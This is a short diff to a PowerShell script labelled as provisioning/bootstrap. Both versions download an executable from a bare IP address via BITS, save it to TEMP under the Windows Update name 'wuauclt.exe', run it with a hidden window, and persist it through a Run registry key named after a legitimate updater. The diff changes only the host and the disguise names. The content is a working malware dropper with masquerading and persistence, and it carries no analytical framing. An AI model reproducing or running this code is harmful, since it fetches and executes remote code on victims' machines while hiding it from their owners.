@@ -1,4 +1,4 @@
-# provision 8773 v4
-Start-BitsTransfer -Source http://192.0.2.44/svc.exe -Destination $env:TEMP\wuauclt.exe
+# bootstrap 2430 v4
+Start-BitsTransfer -Source http://203.0.113.200/svc.exe -Destination $env:TEMP\wuauclt.exe
 Start-Process -WindowStyle Hidden $env:TEMP\wuauclt.exe
-New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'MicrosoftEdgeUpdateCore' -Value '$env:TEMP\wuauclt.exe' -PropertyType String -Force
+New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'GoogleUpdateTaskMachine' -Value '$env:TEMP\wuauclt.exe' -PropertyType String -Force
